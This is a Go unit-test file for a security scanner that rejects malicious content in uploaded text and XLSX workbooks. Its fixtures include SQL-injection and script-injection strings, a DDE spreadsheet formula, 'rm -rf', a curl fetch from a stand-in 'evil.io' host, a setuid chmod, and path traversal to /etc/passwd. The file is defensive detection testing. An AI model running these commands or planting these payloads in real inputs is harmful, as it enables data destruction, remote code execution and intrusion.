package core

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/JonMunkholm/stateport/internal/workbook"
)

func TestScanner_Scan(t *testing.T) {
	s := NewScanner(0)

	tests := []struct {
		name  string
		input string
		class PatternClass
	}{
		{"clean", "username,email\nalice,alice@example.com", ""},
		{"chinese text", "学习记录 项目 备注：复习第三章", ""},
		{"script tag", "<script>alert(1)</script>", ClassScript},
		{"javascript uri", `href="javascript:alert(1)"`, ClassScript},
		{"union select", "1 UNION SELECT password FROM users", ClassSQL},
		{"drop table", "'; DROP TABLE users; --", ClassSQL},
		{"tautology", "' or '1'='1", ClassSQL},
		{"os.system", "os.system('id')", ClassShell},
		{"dde formula", "=cmd|'/c calc'!A1", ClassShell},
		{"rm -rf", "rm -rf /var/lib", ClassFilesystem},
		{"curl", "curl -s http://evil.io/x.sh", ClassNetwork},
		{"sudo", "sudo chmod 4755 /bin/bash", ClassPrivilege},
		{"pickle", "pickle.loads(blob)", ClassDeserialization},
		{"traversal", "../../etc/passwd", ClassTraversal},
		{"percent run", "%3c%73%63%72%69%70%74%3e", ClassEncoding},
		{"data uri", "data:text/html;base64,PHNjcmlwdD4=", ClassEncoding},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := s.Scan([]byte(tt.input))
			if tt.class == "" {
				assert.True(t, v.Accepted, v.Evidence)
				return
			}
			require.False(t, v.Accepted)
			assert.Equal(t, KindSecurityRejection, v.Kind)
			assert.Equal(t, ReasonMaliciousContent, v.Reason)
			assert.Contains(t, v.Evidence, string(tt.class)+"=")
		})
	}
}

func TestScanner_PrefixBound(t *testing.T) {
	s := NewScanner(64)
	data := strings.Repeat("a", 200) + "<script>alert(1)</script>"
	assert.True(t, s.Scan([]byte(data)).Accepted)

	data = "<script>alert(1)</script>" + strings.Repeat("a", 200)
	assert.False(t, s.Scan([]byte(data)).Accepted)
}

func TestScanner_ScansCompressedParts(t *testing.T) {
	s := NewScanner(0)

	data, err := workbook.WriteXLSX([]workbook.Sheet{{
		Name:   "Users",
		Header: []string{"Username", "Display Name"},
		Rows:   [][]string{{"mallory", "x'; DROP TABLE users; --"}},
	}})
	require.NoError(t, err)

	v := s.Scan(data)
	require.False(t, v.Accepted)
	assert.Contains(t, v.Evidence, string(ClassSQL)+"=")
}

func TestScanner_AcceptsCleanWorkbook(t *testing.T) {
	s := NewScanner(0)

	data, err := workbook.WriteXLSX([]workbook.Sheet{
		{
			Name:   "Users",
			Header: []string{"ID", "Username", "Email", "Role", "Created At"},
			Rows: [][]string{
				{"1", "alice", "alice@example.com", "user", "2024-01-01 08:00:00"},
				{"2", "张伟", "zhang@example.com", "admin", "2024-01-02 09:30:00"},
			},
		},
		{
			Name:   "Export Info",
			Header: []string{"Field", "Value"},
			Rows:   [][]string{{"Generated At", "2024-01-03 00:00:00"}},
		},
	})
	require.NoError(t, err)

	v := s.Scan(data)
	assert.True(t, v.Accepted, v.Evidence)
}

func TestScanner_EvidenceCountsMatches(t *testing.T) {
	s := NewScanner(0)
	v := s.Scan([]byte("<script>a</script> <script>b</script>"))
	require.False(t, v.Accepted)
	assert.Equal(t, "2 match(es): script_injection=2", v.Evidence)
}

func TestScanner_ScanField(t *testing.T) {
	s := NewScanner(0)

	tests := []struct {
		input    string
		rejected bool
	}{
		{"", false},
		{"Weekly review", false},
		{"Administrator of the chess club", false},
		{"is_admin=true", true},
		{"role: admin", true},
		{"please promote me to admin", true},
		{"bypass authentication", true},
		{"<script>steal()</script>", true},
	}
	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			v := s.ScanField(tt.input)
			assert.Equal(t, StageImport, v.Stage)
			assert.Equal(t, !tt.rejected, v.Accepted, v.Evidence)
		})
	}
}
